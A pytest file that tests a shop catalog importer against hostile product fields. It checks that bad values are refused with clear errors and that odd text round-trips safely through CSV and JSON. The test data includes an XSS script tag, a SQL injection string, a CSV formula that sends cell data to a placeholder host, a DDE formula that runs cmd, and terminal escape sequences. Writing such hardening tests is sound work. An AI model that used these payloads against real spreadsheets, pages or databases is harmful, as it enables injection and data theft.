"""Hostile catalog files, tried as an adversary would: each is refused with the file, row and field
and nothing imported, or imported and kept exactly (text is text: it never executes anywhere).

The list is the hardening issue's "every hostile input you tried"; the closing note names them.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from core.cli import main
from core.workspace import export_catalog

GOOD = {"id": "ok", "name": "Fine", "base_price_cents": 100, "sell_status": "available"}

# (label, a product's fields over GOOD) that must be refused; what the message must name.
REFUSED: list[tuple[str, dict[str, Any], str]] = [
    ("empty id", {"id": ""}, "id"),
    ("blank id", {"id": "   "}, "id"),
    ("id with ESC", {"id": "a\x1b[31mb"}, "control characters"),
    ("id with NUL", {"id": "a\x00b"}, "id"),
    ("id with RLO", {"id": "\u202eevil"}, "control characters"),
    ("id with newline", {"id": "a\nb"}, "id"),
    ("empty name", {"name": ""}, "name"),
    ("blank name", {"name": "   "}, "name"),
    ("NBSP-only name", {"name": "\u00a0\u00a0"}, "name"),
    ("name of 251 characters", {"name": "x" * 251}, "250"),
    ("name with BEL", {"name": "Ding\x07"}, "control characters"),
    ("name with CSI (C1)", {"name": "a\u009b31m"}, "control characters"),
    ("name with DEL", {"name": "a\x7f"}, "control characters"),
    ("name with LRI", {"name": "a\u2066b"}, "control characters"),
    ("name as a number", {"name": 12}, "name"),
    ("name as a list", {"name": ["a"]}, "name"),
    ("negative price", {"base_price_cents": -1}, "base_price_cents"),
    ("fractional price", {"base_price_cents": 1.5}, "base_price_cents"),
    ("price as text", {"base_price_cents": "abc"}, "base_price_cents"),
    ("price over Stripe's bound", {"base_price_cents": 100_000_000}, "base_price_cents"),
    ("price of 2**63", {"base_price_cents": 2**63}, "base_price_cents"),
    ("price true", {"base_price_cents": True}, "base_price_cents"),
    ("price as a list", {"base_price_cents": [1]}, "base_price_cents"),
    ("price as an object", {"base_price_cents": {"a": 1}}, "base_price_cents"),
    ("unknown sell status", {"sell_status": "gone"}, "sell_status"),
    ("upper-case sell status", {"sell_status": "AVAILABLE"}, "sell_status"),
    ("empty sell status", {"sell_status": ""}, "sell_status"),
    ("dev status 9", {"dev_status": 9}, "dev_status"),
    ("dev status -1", {"dev_status": -1}, "dev_status"),
    ("is_live 'maybe'", {"is_live": "maybe"}, "is_live"),
    ("description with ESC", {"description": "a\x1b[2Jb"}, "control characters"),
    ("description of 40,001 characters", {"description": "d" * 40_001}, "description"),
    ("unknown column", {"colour\u202e": "red"}, "known column"),
]

# Values that are legitimate text: imported, exported and imported again exactly.
KEPT: list[tuple[str, dict[str, Any]]] = [
    ("unicode name", {"name": "Lámpara ✨ 灯"}),
    ("emoji name", {"name": "🔥 Fire Lamp"}),
    ("HTML in a name", {"name": "<script>alert(1)</script>"}),
    ("SQL in a name", {"name": "Robert'); DROP TABLE products;--"}),
    ("formula name", {"name": '=HYPERLINK("http://x"&A1,"click")'}),
    ("plus name", {"name": "+1+1"}),
    ("minus name", {"name": "-2+3"}),
    ("at name", {"name": "@SUM(1)"}),
    ("quote-first name", {"name": "'=1"}),
    ("double-quote name", {"name": 'The "Big" Lamp'}),
    ("comma and semicolon", {"name": "a,b;c"}),
    ("name of 250 characters", {"name": "y" * 250}),
    ("zero-width space inside", {"name": "Lamp\u200bOne"}),
    ("description with newlines", {"description": "line 1\nline 2\r\nline 3\tend"}),
    ("description formula", {"description": "=cmd|' /C calc'!A0"}),
    ("id with dashes", {"id": "a-b_c-1"}),
    ("id looking like a path", {"id": "..-etc-passwd"}),
    ("price zero", {"base_price_cents": 0}),
    ("price at Stripe's bound", {"base_price_cents": 99_999_999}),
    ("no price yet", {"base_price_cents": None}),
]


def _import(tmp_path: Path, db: str, product: dict[str, Any], suffix: str = ".json") -> int:
    source = tmp_path / f"hostile{suffix}"
    source.write_text(json.dumps({"products": [product]}), encoding="utf-8")
    return main(["import", str(source), "--db", db])


def _ids(db: str) -> list[str]:
    from core.catalog.store import CatalogStore

    store = CatalogStore.open(db, create=False)
    try:
        return [r.id for r in store.list_records()]
    finally:
        store.close()


@pytest.mark.parametrize(("label", "fields", "named"), REFUSED, ids=[c[0] for c in REFUSED])
def test_a_hostile_value_is_refused_and_nothing_imported(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    label: str,
    fields: dict[str, Any],
    named: str,
) -> None:
    db = f"sqlite:///{tmp_path / 'shop.db'}"
    assert _import(tmp_path, db, GOOD) == 0
    capsys.readouterr()
    assert _import(tmp_path, db, {**GOOD, "id": "bad", **fields}) == 2, label
    err = capsys.readouterr().err
    assert "hostile.json" in err and named in err, err
    assert "\x1b" not in err and "\x07" not in err and "\u202e" not in err
    assert "Nothing was imported" in err or "nothing was imported" in err.lower()
    assert _ids(db) == ["ok"]


@pytest.mark.parametrize(("label", "fields"), KEPT, ids=[c[0] for c in KEPT])
@pytest.mark.parametrize("suffix", [".json", ".csv"])
def test_legitimate_text_round_trips_exactly_through_export_and_import(
    tmp_path: Path, label: str, fields: dict[str, Any], suffix: str
) -> None:
    db = f"sqlite:///{tmp_path / 'shop.db'}"
    product = {**GOOD, **fields}
    assert _import(tmp_path, db, product) == 0, label
    exported = tmp_path / f"export{suffix}"
    export_catalog(db, exported)
    if suffix == ".csv":
        assert all(
            not line or line[0] not in "=+-@\t\r"
            for line in exported.read_text(encoding="utf-8").splitlines()
            for line in line.split(",")
        )
    fresh = f"sqlite:///{tmp_path / 'fresh.db'}"
    assert main(["import", str(exported), "--db", fresh]) == 0
    from core.catalog.store import CatalogStore

    store = CatalogStore.open(fresh, create=False)
    try:
        (record,) = store.list_records()
    finally:
        store.close()
    for key, value in fields.items():
        assert record.product.get(key) == value, (label, key)


@pytest.mark.parametrize(
    ("label", "content", "named"),
    [
        ("empty file", b"", "hostile.csv"),
        ("only a header", b"id,name,base_price_cents,sell_status\n", None),
        ("not UTF-8", b"id,name\n\xff\xfe\xfa,x\n", "UTF-8"),
        ("binary garbage", bytes(range(256)) * 4, "hostile.csv"),
        (
            "unclosed quote",
            b'id,name,base_price_cents,sell_status\nok,"Fine,100,available\n',
            "quote",
        ),
        (
            "duplicate ids",
            b"id,name,base_price_cents,sell_status\na,A,1,available\na,B,2,available\n",
            "a",
        ),
        ("missing id column", b"name,base_price_cents,sell_status\nA,1,available\n", "id"),
    ],
    ids=lambda v: v if isinstance(v, str) else None,
)
def test_a_broken_csv_file_is_refused_cleanly(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    label: str,
    content: bytes,
    named: str | None,
) -> None:
    db = f"sqlite:///{tmp_path / 'shop.db'}"
    source = tmp_path / "hostile.csv"
    source.write_bytes(content)
    code = main(["import", str(source), "--db", db])
    err = capsys.readouterr().err
    if named is None:  # nothing to import is not an error
        assert code == 0
        return
    assert code == 2, label
    assert named in err, err
    assert "Traceback" not in err


@pytest.mark.parametrize(
    ("label", "document"),
    [
        ("a list at the top", [1, 2, 3]),
        ("products is null", {"products": None}),
        ("products is text", {"products": "lamp"}),
        ("a product is a number", {"products": [7]}),
        (
            "variants of a missing product",
            {"products": [], "variants": [{"id": "v", "product_id": "nope"}]},
        ),
        ("a variant without id", {"products": [GOOD], "variants": [{"product_id": "ok"}]}),
        (
            "a variant priced out of range",
            {
                "products": [GOOD],
                "variants": [{"id": "v", "product_id": "ok", "price_modifier": -500}],
            },
        ),
    ],
    ids=lambda v: v if isinstance(v, str) else None,
)
def test_a_malformed_json_file_is_refused_cleanly(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], label: str, document: Any
) -> None:
    db = f"sqlite:///{tmp_path / 'shop.db'}"
    source = tmp_path / "hostile.json"
    source.write_text(json.dumps(document))
    assert main(["import", str(source), "--db", db]) == 2, label
    err = capsys.readouterr().err
    assert "hostile.json" in err and "Traceback" not in err
